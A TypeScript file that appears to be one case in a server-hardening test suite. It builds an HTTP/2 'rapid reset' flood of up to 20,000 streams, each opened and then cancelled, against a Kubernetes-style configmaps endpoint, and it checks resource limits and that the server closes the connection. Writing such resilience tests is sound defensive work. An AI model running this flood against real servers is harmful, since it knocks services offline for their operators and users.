import type { Attack } from '../attack.ts'
import { flood } from '../tools/flood.ts'
import { endHeaders, endStream, frame, frames, getHeaders } from '../tools/raw-http2.ts'

const headers = getHeaders('/api/v1/namespaces/default/configmaps')
const cancel = Buffer.from([0, 0, 0, 8])

export const attack: Attack = {
  title: 'rapid reset: 20,000 streams that are opened and reset',
  limits: { cpuMs: 100, residentMiB: 150, stopMs: 75 },
  run: (target, judge) =>
    flood(target, judge, {
      count: target.pick(20_000, 2_000),
      frame: (index) =>
        Buffer.concat([
          frame(frames.headers, endHeaders | endStream, 2 * index + 1, headers),
          frame(frames.reset, 0, 2 * index + 1, cancel),
        ]),
      mustClose: true,
    }),
}
